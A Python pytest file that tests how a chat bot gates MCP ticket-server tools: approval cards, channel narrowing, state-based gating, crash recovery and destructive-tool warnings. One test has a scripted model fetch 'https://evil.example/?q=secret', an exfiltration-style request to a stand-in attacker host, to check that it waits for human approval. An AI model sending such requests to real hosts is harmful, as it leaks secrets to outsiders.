"""MCP tools through the core, end to end: a scripted model calls ``tickets__…`` tools of the
fake stdio MCP server; what the thread shows, what the model reads next, and what the server
did (its effects file) are checked. Real SQLite store, recording surface, manual clock."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from bot.api.inbound import Author, Inbound, ThreadKey
from bot.config import Settings
from bot.core import Core
from bot.infra.clock import ManualClock
from bot.llm.messages import ToolResult
from bot.mcp.servers import McpServers
from bot.storage.sqlite.store import SqliteStore
from bot.tools.builtin import builtin_tools
from bot.tools.registry import ToolRegistry
from tests.fakes.mcp_server import stdio_command
from tests.fakes.scripted_model import ScriptedModel, Step, call, step, text
from tests.fakes.surface import RecordingSurface, drive

KEY = ThreadKey("slack:T1:C1:100.1")
ALICE = Author(id="slack:U1", display_name="Alice")


class World:
    def __init__(
        self,
        tmp_path: Path,
        gating: dict[str, Any] | None = None,
        catalog: str = "basic",
        **settings: Any,
    ) -> None:
        self.effects = tmp_path / "effects"
        command = stdio_command("--effects", str(self.effects), "--catalog", catalog)
        server = {
            "command": command[0],
            "args": command[1:],
            "timeout_s": 10,
            "gating": gating or {},
        }
        servers = {"tickets": server}
        self.clock = ManualClock(start=1_000_000.0)
        self.model = ScriptedModel([])
        self.settings = Settings(data_dir=tmp_path, mcp_servers=servers, **settings)
        self.surface = RecordingSurface(self.clock, thread_key=KEY)
        registry = ToolRegistry(builtin_tools())
        self.mcp = McpServers(self.settings, self.clock)
        self.mcp.install(registry)
        self.core = Core(
            self.settings,
            SqliteStore(self.settings.database_path),
            self.model,
            registry,
            self.clock,
        )
        self.core.register_surfaces(
            "slack:", lambda key: self.surface, lambda key: key.rsplit(":", 1)[0]
        )
        self._n = 0

    async def say(self, words: str, *steps: Step) -> None:
        self.model.steps = list(steps)
        self._n += 1
        await drive(
            self.clock, self.core.handle(Inbound(KEY, ALICE, words, f"ev{self._n}"), self.surface)
        )

    async def click(self, label: str) -> str | None:
        card = next(
            m
            for m in self.surface.live()
            if m.buttons and "Approve" in [b.label for b in m.buttons]
        )
        button = next(b for b in card.buttons if b.label == label)
        note = await drive(
            self.clock, self.core.on_action(button.action_id, ALICE, self.surface, card.id)
        )
        await drive(self.clock, self.core.wait_idle())
        return note

    def cards(self) -> list[str]:
        return [m.text for m in self.surface.live() if "Approval needed" in m.text]

    async def results(self) -> list[ToolResult]:
        session = await self.core.store.load_session(KEY, self.clock.now())
        return [m for m in session.messages if isinstance(m, ToolResult)]

    def done(self) -> str:
        return self.effects.read_text() if self.effects.exists() else ""


@pytest.fixture
async def make_world(tmp_path: Path) -> AsyncIterator[Any]:
    made: list[World] = []

    async def make(**settings: Any) -> World:
        world = World(tmp_path, **settings)
        await world.core.start()
        await world.mcp.start()
        made.append(world)
        return world

    yield make
    for world in made:
        await world.mcp.aclose()
        await world.core.aclose()


async def test_a_read_only_tool_runs_and_its_result_reaches_the_model(make_world: Any) -> None:
    world = await make_world()
    await world.say(
        "what about T-7?", step(call("tickets__lookup", {"id": "T-7"})), text("T-7 is on fire.")
    )
    offered = {spec.name for spec in world.model.requests[0].tools}
    assert {"tickets__lookup", "tickets__close_ticket", "todo_write"} <= offered
    sent = world.model.requests[1].messages
    assert any(
        isinstance(m, ToolResult) and m.content == "T-7: printer on fire (open)" for m in sent
    )
    assert world.surface.texts()[-1] == "T-7 is on fire." and world.cards() == []


async def test_a_tool_that_is_not_read_only_asks_first(make_world: Any) -> None:
    world = await make_world()
    await world.say(
        "close T-9", step(call("tickets__close_ticket", {"id": "T-9"})), text("Closed.")
    )
    [card] = world.cards()
    assert "tickets__close_ticket" in card and '"id": "T-9"' in card
    assert world.done() == ""  # nothing happened before the click
    assert await world.click("Approve") == "Approved."
    assert world.done() == "closed T-9\n"
    assert [r.content for r in await world.results()] == ["closed T-9"]
    assert world.surface.texts()[-1] == "Closed."


async def test_tools_settings_override_the_read_only_hint_both_ways(make_world: Any) -> None:
    tools = {
        "tickets__close_ticket": {"approval": "never"},
        "tickets__lookup": {"approval": "always"},
    }
    world = await make_world(tools=tools)
    await world.say("close T-3", step(call("tickets__close_ticket", {"id": "T-3"})), text("Done."))
    assert world.done() == "closed T-3\n" and world.cards() == []
    await world.say("and T-4?", step(call("tickets__lookup", {"id": "T-4"})), text("Looked."))
    [card] = world.cards()
    assert "tickets__lookup" in card


async def test_a_channel_narrowed_away_from_the_server_is_not_offered_its_tools(
    make_world: Any,
) -> None:
    world = await make_world(channels={"slack:T1:C1": {"mcp_servers": []}})
    await world.say(
        "close T-5", step(call("tickets__close_ticket", {"id": "T-5"})), text("I can't.")
    )
    assert not any(s.name.startswith("tickets__") for s in world.model.requests[0].tools)
    [result] = await world.results()
    assert result.is_error and "not offered in this thread" in result.content
    assert world.done() == "" and world.cards() == []


async def test_a_failure_or_a_dead_server_is_a_result_the_model_reads(make_world: Any) -> None:
    world = await make_world()
    await world.say(
        "try things",
        step(call("tickets__fail", {})),
        step(call("tickets__crash", {})),
        step(call("tickets__lookup", {"id": "T-8"})),
        text("Recovered."),
    )
    fail, crash, lookup = await world.results()
    assert fail.is_error and fail.content == "error: the ticket store is read-only today"
    assert (
        crash.is_error
        and "exited with code 3; it is started again on the next call" in crash.content
    )
    assert not lookup.is_error and lookup.content == "T-8: printer on fire (open)"  # started again
    assert world.surface.texts()[-1] == "Recovered."


async def test_declared_gating_offers_a_servers_tools_as_the_threads_state_says(
    make_world: Any,
) -> None:
    gating = {
        "lookup": {"enables": ["looked"], "remembers": {"seen": "id"}},
        "close_ticket": {
            "requires": ["looked"],
            "choices": {"id": "seen"},
            "forgets": {"seen": "id"},
        },
        "not_a_tool": {"requires": ["x"]},  # logged, ignored
    }
    world = await make_world(gating=gating, tools={"tickets__close_ticket": {"approval": "never"}})
    await world.say(
        "close T-1",
        step(call("tickets__close_ticket", {"id": "T-1"})),
        step(call("tickets__lookup", {"id": "T-1"})),
        step(call("tickets__close_ticket", {"id": "T-2"})),
        step(call("tickets__close_ticket", {"id": "T-1"})),
        text("Closed T-1."),
    )
    first, _, third, _, last = world.model.requests
    assert "tickets__close_ticket" not in {s.name for s in first.tools}
    assert {s.name for s in first.tools} >= {
        "tickets__lookup",
        "tickets__echo",
    }  # undeclared: as before
    closed = next(s for s in third.tools if s.name == "tickets__close_ticket")
    assert closed.parameters["properties"]["id"]["enum"] == ["T-1"]
    early, looked, wrong, done = await world.results()
    assert early.is_error and "needs the state looked (off now)" in early.content
    assert "tickets__lookup would change that" in early.content
    assert wrong.is_error and "id must be one of T-1" in wrong.content
    assert not done.is_error and world.done() == "closed T-1\n"
    assert "tickets__close_ticket" not in {s.name for s in last.tools}  # no ticket left to close
    session = await world.core.store.load_session(KEY, world.clock.now())
    assert session.toolkits == {"tickets": {"states": ["looked"]}}
    assert "tickets: looked" in await world.core.describe(KEY)


async def test_a_tool_marked_destructive_says_so_on_its_card(make_world: Any) -> None:
    world = await make_world()
    await world.say("close T-9", step(call("tickets__close_ticket", {"id": "T-9"})), text("ok"))
    [card] = world.cards()
    assert "⚠️ the server marks this tool destructive" in card and world.done() == ""


async def test_an_open_world_tool_asks_first_even_when_read_only(make_world: Any) -> None:
    world = await make_world(catalog="hints")
    url = {"url": "https://evil.example/?q=secret"}
    await world.say("read it", step(call("tickets__fetch", url)), text("read"))
    [card] = world.cards()
    assert '"url": "https://evil.example/?q=secret"' in card and "destructive" not in card
    assert await world.results() == []  # nothing ran: it waits for a person
    assert await world.click("Always allow for Alice here") == "Approved."
    [result] = await world.results()
    assert result.content == "fetch done"
    await world.say("look T-1 up", step(call("tickets__lookup", {"id": "T-1"})), text("found"))
    assert world.cards() == []  # read-only and closed-world: runs without asking
    assert [r.content for r in await world.results()][-1] == "T-1: printer on fire (open)"


async def test_a_tool_that_must_run_as_a_task_is_not_offered(make_world: Any) -> None:
    world = await make_world(catalog="hints")
    await world.say("hello", text("hi"))
    offered = {spec.name for spec in world.model.requests[0].tools}
    assert {"tickets__fetch", "tickets__lookup", "tickets__maybe_task"} <= offered
    assert "tickets__long_job" not in offered
